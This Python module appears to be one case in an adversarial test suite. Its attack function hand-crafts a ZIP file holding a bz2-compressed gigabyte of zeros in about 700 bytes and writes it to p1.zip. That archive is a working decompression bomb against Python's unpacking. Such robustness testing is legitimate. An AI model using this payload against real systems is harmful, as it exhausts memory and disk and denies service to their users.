"""Hands in a ZIP in a compression that Python unpacks in one piece, however little of it is asked for."""

import bz2
import struct
import zlib

SET_ASIDE = "compression"
WRITES = True
SIZE = 1 << 30


def attack(notebook, folder, school):
    # a gigabyte of zeros in 700 bytes; made by hand, since a writer would take as long as a reader
    packed = bz2.compress(bytes(SIZE))
    about = struct.pack("<HHHHHIII", 46, 0, 12, 0, 0, zlib.crc32(b""), len(packed), SIZE)
    local = b"PK\x03\x04" + about + struct.pack("<HH", 5, 0) + b"a.bin" + packed
    entry = b"PK\x01\x02" + struct.pack("<H", 46) + about + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0) + b"a.bin"
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local), 0)
    (folder / "p1.zip").write_bytes(local + entry + end)
    return None
